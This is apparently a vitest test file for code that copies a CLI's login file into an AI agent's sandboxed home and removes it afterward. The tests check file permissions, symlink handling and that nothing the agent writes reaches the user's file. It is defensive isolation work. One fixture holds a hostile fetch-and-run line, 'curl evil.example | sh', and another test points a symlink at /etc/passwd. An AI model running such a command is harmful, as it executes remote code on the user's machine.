// Copying a CLI's subscription login into an episode's home, and removing it after: nothing the
// agent could have written goes back to the user's files.
import { lstat, mkdir, mkdtemp, readFile, rm, stat, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { installLogins, type LoginFile, removeLogins } from '../../../src/io/logins.js';

let tmp = '';
let user = '';
let episode = '';
let login: LoginFile;
const LOGIN = `${JSON.stringify({ tokens: { access: 'a1', refresh: 'r1' }, last_refresh: '2026-11-01' })}\n`;
const REFRESHED = `${JSON.stringify({ tokens: { access: 'a2', refresh: 'r2' }, last_refresh: '2026-12-01' })}\n`;

beforeEach(async () => {
  tmp = await mkdtemp(join(tmpdir(), 'ff-logins-'));
  user = join(tmp, 'user', '.cli');
  episode = join(tmp, 'episode', 'home');
  await mkdir(user, { recursive: true });
  login = { from: join(user, 'auth.json'), fromEnv: 'TEST_AUTH_JSON', to: join(episode, 'auth.json') };
});
afterEach(() => rm(tmp, { recursive: true, force: true }));

describe('installLogins', () => {
  it('copies the login file into the episode home, readable by its owner only', async () => {
    await writeFile(login.from, LOGIN, { mode: 0o644 });
    const installed = await installLogins([login], {});
    expect(installed).toEqual([login.to]);
    expect(await readFile(login.to, 'utf8')).toBe(LOGIN);
    expect((await stat(login.to)).mode & 0o777).toBe(0o600);
    expect((await lstat(login.to)).isSymbolicLink()).toBe(false);
    // A copy: the user's file is untouched.
    expect((await stat(login.from)).mode & 0o777).toBe(0o644);
  });

  it('takes the content from the variable over the file (a secret on a runner)', async () => {
    await writeFile(login.from, LOGIN);
    await installLogins([login], { TEST_AUTH_JSON: ` ${REFRESHED} ` });
    expect(await readFile(login.to, 'utf8')).toBe(REFRESHED.trim());
  });

  it('copies nothing when there is no login, and replaces what the episode home held', async () => {
    expect(await installLogins([login], {})).toEqual([]);
    await mkdir(episode, { recursive: true });
    await symlink('/etc/passwd', login.to);
    await writeFile(login.from, LOGIN);
    await installLogins([login], {});
    expect((await lstat(login.to)).isSymbolicLink()).toBe(false);
    expect(await readFile(login.to, 'utf8')).toBe(LOGIN);
  });
});

describe('removeLogins', () => {
  it('removes the copy; the user file is as it was', async () => {
    await writeFile(login.from, LOGIN);
    const copies = await installLogins([login], {});
    await removeLogins(copies);
    await expect(lstat(login.to)).rejects.toThrow(/ENOENT/);
    expect(await readFile(login.from, 'utf8')).toBe(LOGIN);
  });

  it.each([
    ['refreshed by the CLI', REFRESHED],
    [
      "another account's login of the same shape",
      `${JSON.stringify({ tokens: { access: 'x', refresh: 'y' }, last_refresh: '2026-12-01' })}\n`,
    ],
    ['a script', '#!/bin/sh\ncurl evil.example | sh\n'],
  ])('never carries the copy back to the user file, rewritten as %s (the agent can write it)', async (_what, text) => {
    await writeFile(login.from, LOGIN);
    const copies = await installLogins([login], {});
    await writeFile(login.to, text);
    await removeLogins(copies);
    expect(await readFile(login.from, 'utf8')).toBe(LOGIN);
    await expect(lstat(login.to)).rejects.toThrow(/ENOENT/);
  });

  it('removes a symlink the agent put in its place, not what it points at', async () => {
    await writeFile(login.from, LOGIN);
    const copies = await installLogins([login], {});
    const elsewhere = join(tmp, 'elsewhere.json');
    await writeFile(elsewhere, REFRESHED);
    await rm(login.to);
    await symlink(elsewhere, login.to);
    await removeLogins(copies);
    expect(await readFile(elsewhere, 'utf8')).toBe(REFRESHED);
    await expect(lstat(login.to)).rejects.toThrow(/ENOENT/);
  });
});
